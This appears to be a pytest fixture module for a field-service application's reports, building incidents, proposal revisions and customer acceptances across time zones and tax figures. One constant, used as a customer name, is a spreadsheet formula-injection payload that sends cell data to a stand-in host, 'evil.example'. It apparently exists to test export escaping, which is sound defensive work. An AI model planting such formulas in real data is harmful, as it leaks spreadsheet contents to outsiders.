"""A known data set for the reports, in New York time (EST, then EDT from 8 March 2026),
with tax at 6.25 %. The period asked for is 1 January to 30 June 2026.

Team A (Sara Supervisor's); times UTC, each step after the one before:

- i1, the broken transmitters (Northwind Pharma, recorded by Tom, our technician): reported 10 Jan
  14:00, sent +2 h, accepted +24 h (11 Jan), resolved +24 h.
- i2 (=HYPERLINK…, Tom, third party): reported 27 Feb 12:00, sent +4 h, accepted 1 Mar
  03:00 = 28 Feb 22:00 in New York (+35 h); not resolved.
- i3 (Northwind, Uma, our technician): reported 5 Mar 12:00, sent +6 h, accepted 7 Mar
  18:00 (+48 h); a second proposal accepted 2 Apr; closed 3 Apr 12:00.
- i4 (Northwind, reported by the customer, cause customer): reported 10 Apr 12:00,
  first revision sent +30 h and declined, the second accepted 15 Apr 12:00 (+90 h).
- i5 (Tom, unknown): reported 1 May 00:00, closed +10 h without a proposal.
- i6 (Tom, unknown): reported 2 May 00:00, resolved, then reopened.
- i7 (Tom, our technician): reported 30 Dec 2025, accepted 31 Dec 23:00 in New York:
  before the period.

Team B: i8 for Other Co, accepted 10 Feb (999.00 absorbed): only admins count it.

Accepted revisions (customer pays / tax / we absorb): i1 350.00 / 21.88 / 1,180.00 (the
broken transmitters, through the services: sent, then accepted on the status page);
i2 100.00 / 6.25 / 50.00; i3 200.00 / 12.50 / 300.00 and 0.00 / 0.00 / 75.50;
i4 500.00 / 31.25 / 0.00.
"""

import secrets
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from fieldsvc.audit.services import acting
from fieldsvc.auth.models import Role, User
from fieldsvc.customers.models import Customer, Site
from fieldsvc.extensions import db
from fieldsvc.incidents.models import CauseCategory, Incident, IncidentStatus, ReportedVia
from fieldsvc.incidents.services import change_status
from fieldsvc.portal import links
from fieldsvc.portal.models import CustomerResponse, ResponseKind, StatusLink
from fieldsvc.portal.services import Answer, Visitor, respond
from fieldsvc.proposals.models import Proposal, ProposalRevision, RevisionStatus
from fieldsvc.reports import months, steps
from fieldsvc.reports.services import Period
from tests.proposals.broken_transmitters import build_broken_transmitters, send

PERIOD = Period(date(2026, 1, 1), date(2026, 6, 30))
FORMULA_CUSTOMER = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def utc(month: int, day: int, hour: int = 0, year: int = 2026) -> datetime:
    return datetime(year, month, day, hour, tzinfo=UTC)


@pytest.fixture
def company_time(app):
    """The company in New York, its report months added up in New York's calendar (as
    `flask reports rebuild` does after the zone changed)."""
    app.config.update(TIMEZONE="America/New_York", TAX_RATE=Decimal("0.0625"))
    months.rebuild(db.session.connection(), ZoneInfo("America/New_York"))
    steps.rebuild(db.session.connection())


@pytest.fixture
def make_offer(app):
    """A proposal revision sent at `sent_at` with its frozen figures and, given
    `answer`, the customer's answer at `answered_at`, written as the services leave
    them. Pass `proposal` to add a revision to an existing proposal."""

    def make(
        incident: Incident,
        *,
        sent_at: datetime,
        pays: str,
        tax: str,
        absorb: str,
        answer: ResponseKind | None = None,
        answered_at: datetime | None = None,
        proposal: Proposal | None = None,
        author: User | None = None,
    ) -> ProposalRevision:
        author = author or incident.created_by or _staff_of(incident)
        status = {
            None: RevisionStatus.SENT,
            ResponseKind.ACCEPTED: RevisionStatus.ACCEPTED,
            ResponseKind.DECLINED: RevisionStatus.DECLINED,
            ResponseKind.CHANGES_REQUESTED: RevisionStatus.CUSTOMER_CHANGES,
        }[answer]
        with acting(None, reason="test data"):
            if proposal is None:
                proposal = Proposal(incident=incident, author=author, created_at=sent_at)
                db.session.add(proposal)
            revision = ProposalRevision(
                proposal=proposal,
                number=len(proposal.revisions) + 1,
                status=status,
                what_happened="What happened",
                already_done="Done",
                plan="Plan",
                created_by=author,
                created_at=sent_at - timedelta(hours=1),
                sent_at=sent_at,
                sent_by=author,
                pdf_sha256="0" * 64,
                customer_pays=Decimal(pays),
                customer_tax=Decimal(tax),
                we_absorb=Decimal(absorb),
            )
            db.session.add(revision)
            if answer is not None:
                link = StatusLink(
                    incident=incident,
                    token_hash=links.token_hash(secrets.token_urlsafe(16)),
                    created_by=author,
                    created_at=sent_at,
                    expires_at=sent_at + timedelta(days=30),
                )
                db.session.add(
                    CustomerResponse(
                        revision=revision,
                        status_link=link,
                        kind=answer,
                        full_name="Dana Whitfield",
                        reason="price" if answer is ResponseKind.DECLINED else None,
                        ip_address="203.0.113.7",
                        pdf_sha256="0" * 64,
                        created_at=answered_at,
                    )
                )
            db.session.flush()
        return revision

    return make


def _staff_of(incident: Incident) -> User:
    return db.session.scalars(
        db.select(User).where(User.team_id == incident.customer.team_id, User.active)
    ).first()


@dataclass
class KnownData:
    supervisor: User
    admin: User
    technician: User
    other_supervisor: User
    incidents: dict[str, Incident]


def _accept_broken_transmitters(other: str = "") -> tuple:
    """The broken transmitters the whole way through the services: approved, sent with its frozen
    figures, and accepted by Dana on the status page."""
    seed = build_broken_transmitters(other=other)
    token = send(seed)
    revision = seed.revision
    # Loaded first, as the status page has them: respond() builds the answer before
    # adding it, and a lazy load in between would autoflush the half-built answer.
    assert revision.proposal.incident is seed.incident
    response, _emails = respond(
        links.open_link(token),
        revision,
        Answer(ResponseKind.ACCEPTED, full_name="Dana Whitfield"),
        pdf_sha256=revision.pdf_sha256,
        visitor=Visitor("203.0.113.5", "test browser"),
    )
    db.session.flush()
    return seed, revision, response


@pytest.fixture
def known_data(app, company_time, make_user, make_incident, make_offer) -> KnownData:
    seed, revision, response = _accept_broken_transmitters()
    i1 = seed.incident
    change_status(i1, IncidentStatus.RESOLVED, actor=seed.supervisor, note="Replaced both")
    # Into the period: the figures stay as frozen when it was sent.
    with acting(None, reason="test data: dates"):
        i1.created_at = utc(1, 10, 14)
        revision.sent_at = utc(1, 10, 16)
        response.created_at = utc(1, 11, 16)
        i1.resolved_at = utc(1, 12, 16)
    tom, team = seed.technician, seed.team
    uma = make_user(Role.TECHNICIAN, team=team, name="Uma Technician")
    site = seed.customer.sites[0]
    with acting(None, reason="test data"):
        formula = Customer(name=FORMULA_CUSTOMER, team=team)
        formula_site = Site(customer=formula, name="Main plant", address="2 Test Road")
        db.session.add_all([formula, formula_site])
        db.session.flush()

    def incident(actor, at, cause, where=site):
        return make_incident(actor=actor, site=where, now=at, cause_category=cause)

    i2 = incident(tom, utc(2, 27, 12), CauseCategory.THIRD_PARTY, formula_site)
    make_offer(
        i2,
        sent_at=utc(2, 27, 16),
        pays="100.00",
        tax="6.25",
        absorb="50.00",
        answer=ResponseKind.ACCEPTED,
        answered_at=utc(3, 1, 3),  # 28 February, 22:00 in New York
    )
    i3 = incident(uma, utc(3, 5, 12), CauseCategory.OUR_TECHNICIAN)
    make_offer(
        i3,
        sent_at=utc(3, 5, 18),
        pays="200.00",
        tax="12.50",
        absorb="300.00",
        answer=ResponseKind.ACCEPTED,
        answered_at=utc(3, 7, 18),
    )
    make_offer(
        i3,
        sent_at=utc(4, 1, 12),
        pays="0.00",
        tax="0.00",
        absorb="75.50",
        answer=ResponseKind.ACCEPTED,
        answered_at=utc(4, 2, 12),
    )
    i4 = incident(tom, utc(4, 10, 12), CauseCategory.CUSTOMER)
    declined = make_offer(
        i4,
        sent_at=utc(4, 11, 18),
        pays="800.00",
        tax="50.00",
        absorb="0.00",
        answer=ResponseKind.DECLINED,
        answered_at=utc(4, 12, 9),
    )
    make_offer(
        i4,
        proposal=declined.proposal,
        sent_at=utc(4, 13, 12),
        pays="500.00",
        tax="31.25",
        absorb="0.00",
        answer=ResponseKind.ACCEPTED,
        answered_at=utc(4, 15, 12),
    )
    i5 = incident(tom, utc(5, 1, 0), CauseCategory.UNKNOWN)
    i6 = incident(tom, utc(5, 2, 0), CauseCategory.UNKNOWN)
    i7 = incident(tom, utc(12, 30, 12, year=2025), CauseCategory.OUR_TECHNICIAN)
    make_offer(
        i7,
        sent_at=utc(12, 30, 14, year=2025),
        pays="40.00",
        tax="2.50",
        absorb="4000.00",
        answer=ResponseKind.ACCEPTED,
        answered_at=utc(1, 1, 4),  # 31 December 2025, 23:00 in New York
    )
    with acting(None, reason="test data: statuses"):
        # Reported on the customer's status page: recorded by nobody on staff.
        i4.created_by, i4.reported_via = None, ReportedVia.PORTAL
        i3.status, i3.resolved_at = IncidentStatus.CLOSED, utc(4, 3, 12)
        i4.status = IncidentStatus.REMEDIATION_ACCEPTED
        i5.status, i5.resolved_at = IncidentStatus.CLOSED, utc(5, 1, 10)
        # Resolved once, then reopened: it keeps the old resolved_at.
        i6.status, i6.resolved_at = IncidentStatus.OPEN, utc(5, 2, 5)
    other = build_broken_transmitters(with_proposal=False, other="B ")
    i8 = make_incident(
        actor=other.technician,
        site=other.customer.sites[0],
        now=utc(2, 9, 12),
        cause_category=CauseCategory.OUR_TECHNICIAN,
    )
    with acting(None, reason="test data"):
        other.customer.name = "Other Co"
        other.technician.name = "Ben Technician"
    make_offer(
        i8,
        sent_at=utc(2, 9, 13),
        pays="999.00",
        tax="62.44",
        absorb="999.00",
        answer=ResponseKind.ACCEPTED,
        answered_at=utc(2, 10, 12),
    )
    db.session.commit()
    return KnownData(
        supervisor=seed.supervisor,
        admin=seed.admin,
        technician=tom,
        other_supervisor=other.supervisor,
        incidents={
            "i1": i1,
            "i2": i2,
            "i3": i3,
            "i4": i4,
            "i5": i5,
            "i6": i6,
            "i7": i7,
            "i8": i8,
        },
    )
